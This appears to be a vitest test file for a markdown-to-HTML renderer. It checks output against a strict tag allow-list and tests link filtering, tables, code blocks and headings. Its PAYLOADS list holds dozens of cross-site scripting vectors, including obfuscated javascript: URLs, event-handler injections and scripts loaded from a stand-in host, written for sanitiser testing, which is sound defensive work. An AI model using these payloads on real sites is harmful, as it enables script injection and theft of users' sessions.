import { describe, expect, it } from 'vitest';
import { isLinkAllowed, plainText, renderMarkdown } from './render-markdown.ts';

const ALLOWED: Record<string, RegExp | null> = {
  p: null, br: null, hr: null, strong: null, em: null, s: null, blockquote: null, ul: null, li: null, h2: null, h3: null, h4: null, h5: null, h6: null,
  thead: null, tbody: null, tr: null, table: null,
  pre: /^tabindex="0"$/,
  ol: /^start="\d+"$/,
  div: /^class="table" tabindex="0"$/,
  th: /^class="align-(left|right|center)"$/,
  td: /^class="align-(left|right|center)"$/,
  code: /^class="language-[A-Za-z0-9+#_-]{1,32}"$/,
  a: /^href="(?:(?:https?|mailto|tel):[^"<>\s]*|[^":<>\s]*(?:[/?#][^"<>\s]*)?)"(?: title="[^"<>]*")?(?: rel="noopener noreferrer nofollow")?$/i,
  img: /^src="(?:https?:[^"<>\s]*|[^":<>\s]*)" alt="[^"<>]*"(?: title="[^"<>]*")?(?: loading="lazy")?$/i,
};

/** Every tag of the HTML that the allow-list does not know, or knows with other attributes. */
function strangeTags(html: string): string[] {
  const tags = [...html.matchAll(/<(\/?)([^\s>]+)\s*([^>]*?)\s*>/g)];
  const strange = tags.filter(([, slash, name, attributes]) => {
    if (!(name! in ALLOWED)) return true;
    return slash ? attributes !== '' : attributes !== '' && !ALLOWED[name!]?.test(attributes!);
  }).map(([tag]) => tag!);
  const loose = html.replace(/<[^<>]*>/g, '').match(/[<>]/g) ?? [];
  return [...strange, ...loose];
}

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))',
  '[x](&#106;avascript&colon;alert(1))',
  '[x](java\\script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<\u0001javascript:alert(1)>)',
  '[x](<\u200bjavascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/x)',
  '[x](\\\\evil.example/x)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![" onerror="alert(1)](https://a.example/x.png)',
  '![x](https://a.example/x.png"onerror="alert(1))',
  '![x](https://a.example/x.png "\\" onerror=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '<https://a.example/"onclick=alert(1)//>',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onmouseover="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |',
  '# <svg/onload=alert(1)>',
  '> <script>alert(1)</script>',
  '- <a onclick=alert(1)>x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
];

it('is judged by an allow-list that sees what could run', () => {
  for (const html of ['<img src="x" alt="" onerror="1">', '<a href="javascript:1">', '<p style="x">', '<script>', '<a href="x">a<b']) expect(strangeTags(html)).not.toEqual([]);
});

describe('renderMarkdown', () => {
  it.each(PAYLOADS)('leaves nothing that runs of %s', (payload) => {
    for (const text of [payload, `前文 ${payload} 后文`, `- 项目\n\n  ${payload}`]) {
      const html = renderMarkdown(text);
      expect(strangeTags(html)).toEqual([]);
      expect(html).not.toMatch(/(?:href|src)="(?:javascript|vbscript|data|file|blob|\/\/|\\)/i);
    }
  });

  it('shows GFM tables with their alignment, without a style attribute', () => {
    const html = renderMarkdown('| 套餐 | 价格 |\n|:--|--:|\n| 企业版 | 99 |');
    expect(html).toContain('<th class="align-right">价格</th>');
    expect(html).not.toContain('style=');
  });

  it('keeps the language of a code block and shows its text as it is', () => {
    expect(renderMarkdown('```ts\nif (a < b) {}\n```')).toBe('<pre tabindex="0"><code class="language-ts">if (a &lt; b) {}\n</code></pre>\n');
  });

  it('begins headings below the title of the page', () => {
    expect(renderMarkdown('# 一\n\n###### 六')).toBe('<h2>一</h2>\n<h6>六</h6>\n');
    expect(renderMarkdown('## 二\n\n### 三')).toBe('<h2>二</h2>\n<h3>三</h3>\n');
  });

  it('tells foreign sites nothing about where the reader came from', () => {
    expect(renderMarkdown('[站外](https://a.example) [站内](/help/KB-1001)')).toBe(
      '<p><a href="https://a.example" rel="noopener noreferrer nofollow">站外</a> <a href="/help/KB-1001">站内</a></p>\n');
  });
});

describe('isLinkAllowed', () => {
  it.each([
    ['https://a.example', true], ['HTTP://a.example', true], ['mailto:a@b.example', true], ['tel:+8613800138000', true],
    ['/help/KB-1', true], ['#part', true], ['?q=a:b', true], ['a/b:c', true],
    ['javascript:1', false], ['ftp://a.example', false], ['//a.example', false], ['\\\\a', false], [' java\nscript:1', false],
  ])('%s: %s', (address, expected) => expect(isLinkAllowed(address)).toBe(expected));
});

describe('plainText', () => {
  it('keeps the words of headings, tables and code and drops the marks', () => {
    expect(plainText('# 标题\n\n**粗** [链接](https://a.example)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n```')).toBe('标题 粗 链接 a b 1 2 code');
  });
});
